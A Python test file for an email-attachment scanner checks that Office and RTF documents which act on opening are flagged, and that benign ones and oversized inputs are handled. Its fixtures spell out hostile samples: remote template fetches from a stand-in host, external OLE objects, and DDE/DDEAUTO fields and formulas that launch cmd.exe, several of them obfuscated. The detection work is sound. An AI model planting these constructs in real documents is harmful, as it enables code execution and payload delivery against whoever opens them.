"""Office documents: what they fetch, start or carry as soon as they are opened, and that honest ones do not."""

from __future__ import annotations

import io
import time
import zipfile
from collections.abc import Callable

import pytest

from mailin.inspection import judged

KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships/"
ELSEWHERE = "https://collect.example/a.dotm"
PLAIN = "application/octet-stream"


def package(*parts: tuple[str, str | bytes], method: int = zipfile.ZIP_DEFLATED, folder: str = "word") -> bytes:
    """An Office document of these parts besides the two that make it one."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in (("[Content_Types].xml", "<Types/>"), (f"{folder}/document.xml", "<document/>"), *parts):
            archive.writestr(name, content)
    return out.getvalue()


def bound(kind: str, target: str = ELSEWHERE, *, mode: str = ' TargetMode="External"', base: str = KIND) -> str:
    """The relationships of a part: a link that one clicks, and one more."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{KIND}hyperlink" Target="https://a.example/?b&amp;c" TargetMode="External"/>'
        f'<Relationship Id="rId2" Type="{base}{kind}" Target="{target}"{mode}/></Relationships>'
    )


def related(relationships: str | bytes, part: str = "word/_rels/settings.xml.rels") -> bytes:
    """A Word document whose settings have these relationships."""
    return package((part, relationships))


def runs(*pieces: str) -> bytes:
    """A Word document with a field whose instruction is told in several runs."""
    told = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return package(("word/footer1.xml", f"<w:p>{sign('begin')}{told}{sign('separate')}<w:t>x</w:t>{sign('end')}</w:p>"))


def sign(kind: str) -> str:
    """Where a field begins, or shows what it came to, or ends."""
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def sheet(name: str, content: str) -> bytes:
    """A workbook with this part."""
    return package((f"xl/{name}", content), folder="xl")


BEGIN, END = sign("begin"), sign("end")
QUOTE = f"{BEGIN}<w:instrText>QUOTE 68 68 69</w:instrText>{END}"
ACTING: dict[str, tuple[bytes, str]] = {
    "a template": (related(bound("attachedTemplate")), "template"),
    "a template of a server": (related(bound("attachedTemplate", r"\\collect.example\a.dotm")), "template"),
    "a template of a server's disk": (related(bound("attachedTemplate", "file://collect.example/a.dotm")), "template"),
    "a template in the strict form": (related(bound("attachedTemplate", base=STRICT)), "template"),
    "a template in UTF-16": (related(bound("attachedTemplate").encode("utf-16")), "template"),
    "a template in references": (
        related(bound("attachedTemplate", mode=" TargetMode='&#69;xternal'")),
        "template",
    ),
    "a template behind a bracket": (related(bound("attachedTemplate", "https://collect.example/?a>b")), "template"),
    "a template with a prefix": (
        related(bound("attachedTemplate").replace("<Relationship", "<r:Relationship").replace("</R", "</r:R")),
        "template",
    ),
    "a template, not packed": (
        package(("word/_rels/settings.xml.rels", bound("attachedTemplate")), method=zipfile.ZIP_STORED),
        "template",
    ),
    "an object": (related(bound("oleObject"), "word/_rels/document.xml.rels"), "object from elsewhere"),
    "a frame": (related(bound("frame"), "word/_rels/webSettings.xml.rels"), "page from elsewhere"),
    "a picture": (related(bound("image"), "word/_rels/document.xml.rels"), "fetches"),
    "something new": (related(bound("somethingOfTomorrow")), "fetches"),
    "a slide's object": (related(bound("oleObject"), "ppt/slides/_rels/slide1.xml.rels"), "object from elsewhere"),
    "another workbook": (
        package(("xl/externalLinks/_rels/externalLink1.xml.rels", bound("externalLinkPath")), folder="xl"),
        "data from elsewhere",
    ),
    "macros of another name": (related(bound("vbaProject", "a.dat", mode="")), "macros"),
    "relationships in an odd charset": (related(bound("attachedTemplate").encode("cp037")), "cannot be looked into"),
    "relationships with entities": (related("<!DOCTYPE a>" + bound("image", mode="")), "cannot be looked into"),
    "a part that is packed oddly": (
        package(("word/_rels/a.rels", bound("attachedTemplate")), method=zipfile.ZIP_BZIP2),
        "cannot be looked into",
    ),
    "a part that is not where it should be": (
        b"PK\x03\x04" + package().replace(b"PK\x03\x04", b"PK\x03\x05"), "cannot be looked into",
    ),
    "DDE": (runs(r" DDE excel a b "), "DDE"),
    "DDEAUTO over runs": (runs("DD", "E", r'AUTO c:\\windows\\system32\\cmd.exe "/k calc"'), "DDE"),
    "DDE in a letter's reference": (runs("&#68;DE", " cmd"), "DDE"),
    "DDE that is not separated": (
        package(("word/document2.xml", f"<w:p>{sign('begin')}<w:instrText> dde cmd</w:instrText></w:p>")),
        "DDE",
    ),
    "DDE in one element": (package(("word/header1.xml", '<w:fldSimple w:dirty="1" w:instr=" DDEAUTO cmd ">')), "DDE"),
    "DDE by its letters' numbers": (
        package(("word/a.xml", f"{BEGIN}{QUOTE}<w:instrText> cmd</w:instrText>{END}")),
        "DDE",
    ),
    "DDE between other fields": (
        package(("word/a.xml", f"{BEGIN}<w:instrText>IF</w:instrText>{BEGIN}<instrText>DDE</instrText>{END}{END}")),
        "DDE",
    ),
    "DDE of a sheet": (sheet("externalLinks/externalLink1.xml", '<externalLink><ddeLink ddeService="cmd"/>'), "DDE"),
    "DDE in a formula": (sheet("worksheets/sheet1.xml", "<c><f>cmd|'/C calc'!A0</f></c>"), "DDE"),
    "DDE in references": (sheet("worksheets/sheet1.xml", '<x:f t="a">1+cmd&#x7C;\'/C calc\'!A0</x:f>'), "DDE"),
    "DDE in quotes": (sheet("worksheets/a.xml", "<f>'cmd'|'/C calc'!A0</f>"), "DDE"),
    "data of a server": (sheet("connections.xml", '<connection><webPr url="https://a.example"/>'), "from elsewhere"),
    "an object of a sheet": (sheet("externalLinks/externalLink1.xml", "<oleLink r:id='a'/>"), "data from elsewhere"),
    "a letter's field": (rb"{\rtf1 {\field{\*\fldinst {\rtlch\fcs1 \af0 DD}{\b E}{AUTO cmd}}}}", "DDE"),
    "a letter's field in numbers": (rb"{\rtf1 {\field{\*\fldinst\'44\'64\'45 cmd}}}", "DDE"),
    "a letter's template": (rb"{\rtf1{\*\template https://collect.example/a.dotm}}", "template"),
    "a letter's template of a server": (rb"{\rtf1{\*\template \\\\collect.example\\a.dotm}}", "template"),
}  # fmt: skip


@pytest.mark.parametrize(("content", "why"), ACTING.values(), ids=ACTING.keys())
def test_T33_a_document_that_acts_when_it_is_opened_is_dangerous(content: bytes, why: str) -> None:
    """It fetches, asks another program, or cannot be looked into; however its parts are written (T33)."""
    found = judged("lettre.docx", PLAIN, content)
    assert found.verdict == "dangerous"
    assert why in found.why


LETTER = '<w:r><w:t>DDE cmd | "a" &amp; TargetMode="External"</w:t></w:r>'
IDLE: dict[str, bytes] = {
    "links and pictures": package(
        ("word/_rels/document.xml.rels", bound("image", "media/a.png", mode="")), ("word/media/a.png", b"\x89PNG")
    ),
    "a link in capitals": related(bound("hyperlink", mode=" TargetMode='EXTERNAL'", base=STRICT)),
    "what the writer's own disk held": related(bound("attachedTemplate", r"file:///C:\Users\marie\Letter.dotx")),
    "a picture copied from a mail": related(bound("image", "cid:image001.png@01DA")),
    "fields of every day": runs(" PAGE ", r" \* MERGEFORMAT"),
    "words about it": package(("word/a.xml", LETTER), ("word/b.xml", runs(' HYPERLINK "https://a.example/DDE"'))),
    "a chart with its table": related(bound("package", "../embeddings/a.xlsx", mode="")),
    "formulas with bars in words": sheet("worksheets/sheet1.xml", '<c><f>A1&amp;" | "&amp;B1</f><v>a|b!c</v></c>'),
    "a letter": rb"{\rtf1{\*\template C:\\Normal.dotm}{\field{\*\fldinst{HYPERLINK '\'64e'}}{\fldrslt dde}}}",
    "another letter": rb"{\rtf1{\*\template Normal.dotm}{\field{\*\fldinst PAGE}}}",
    "bars in names": sheet("worksheets/a.xml", "<c><f>'[1]a|b'!A1</f></c><c><f>Table1[[#All],[a|b]]</f></c>"),
    "names of fields": sheet("sharedStrings.xml", "<t>ddeLink, webPr, cmd|x</t>"),
}  # fmt: skip


@pytest.mark.parametrize("content", IDLE.values(), ids=IDLE.keys())
def test_a_document_that_does_nothing_is_not_dangerous(content: bytes) -> None:
    """Links that one clicks, own pictures, fields, formulas, and the template a letter was begun with."""
    found = judged("lettre.docx", PLAIN, content)
    assert (found.verdict, found.why) == ("unknown", "")


def hollow(names: int, part: bytes, name: str = "word/{}.xml") -> bytes:
    """A document of many like parts."""
    return package(*((name.format(number), part) for number in range(names)))


HOSTILE: dict[str, Callable[[], bytes]] = {
    "relationships": lambda: related(b"<Relationships>" + b"<Relationship a=''/>" * 700_000),
    "relationships without end": lambda: related(b"<Relationships>" + b'<Relationship a="' * 900_000),
    "attributes": lambda: related(b"<Relationships><Relationship " + b"a=''" * 3_000_000 + b"/>"),
    "letters in tags": lambda: related(b"<Relationships>" + (b"<Relationship " + b"a" * 9000 + b">") * 1500),
    "blanks in tags": lambda: related(b"<Relationships>" + (b"<Relationship a" + b" " * 9000 + b">") * 1500),
    "pieces of a field": lambda: package(("word/a.xml", b"<instrText>a</instrText>" * 600_000)),
    "fields in fields": lambda: package(("word/a.xml", b"<fldChar fldCharType='begin'" * 500_000)),
    "fields without end": lambda: package(("word/a.xml", b"<fldSimple " * 1_400_000)),
    "formulas": lambda: sheet("worksheets/a.xml", "<f>&#124;" * 1_500_000),
    "bars": lambda: sheet("worksheets/a.xml", "<f>" + "a |" * 5_000_000),
    "fields of letters": lambda: b"{\\rtf1" + b"\\fldinst" * 1_000_000,
    "bombs": lambda: hollow(100, bytes(1_000_000)),
    "parts": lambda: hollow(2000, b"<a/>"),
    "one part in 1900 names": lambda: hollow(1900, b"<f>" * 100_000),
}


@pytest.mark.parametrize("make", HOSTILE.values(), ids=HOSTILE.keys())
def test_T33_a_hostile_document_costs_little_and_is_not_trusted(make: Callable[[], bytes]) -> None:
    """Parts, bytes and elements are bounded together, and what is left unread says so (T33)."""
    content = make()
    started = time.process_time()
    found = judged("x", PLAIN, content)
    assert time.process_time() - started < 1.0, found
